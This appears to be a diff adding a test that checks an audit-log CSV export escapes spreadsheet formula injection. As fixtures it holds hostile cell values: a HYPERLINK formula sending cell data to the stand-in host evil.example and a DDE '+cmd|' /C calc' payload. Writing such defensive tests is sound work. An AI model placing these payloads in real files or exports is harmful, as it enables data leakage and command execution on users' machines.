@@ -77,6 +77,32 @@ def test_audit_log_is_searchable_by_merchant_action_and_actor(as_role):
     assert "merchant.paused" in search("ann@") and "merchant.activated" not in search("ann@")
 
 
+def test_audit_export_quotes_cells_a_spreadsheet_would_run_as_formulas(as_role):
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    merchant = add_merchant("gamma", store_name=hostile)
+    db.session.add_all(
+        [
+            AuditLog(actor_type="staff", actor="+cmd|' /C calc'!A0", action="-2+3",
+                     merchant_id=merchant.id),
+            AuditLog(actor_type="staff", actor="ann@bindo.test", action="merchant.paused",
+                     merchant_id=merchant.id),
+        ]
+    )  # fmt: skip
+    db.session.commit()
+    response = as_role("viewer").get("/admin/audit/export/csv/")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    by_action = {row["Action"]: row for row in rows}
+    assert by_action["'-2+3"]["Actor"] == "'+cmd|' /C calc'!A0"
+    assert by_action["'-2+3"]["Merchant"] == "'" + hostile
+    assert by_action["merchant.paused"]["Actor"] == "ann@bindo.test"  # plain text unchanged
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
 def test_audit_log_offers_no_create_edit_or_delete(as_role):
     client = as_role("admin")
     html = client.get("/admin/audit/").get_data(as_text=True)
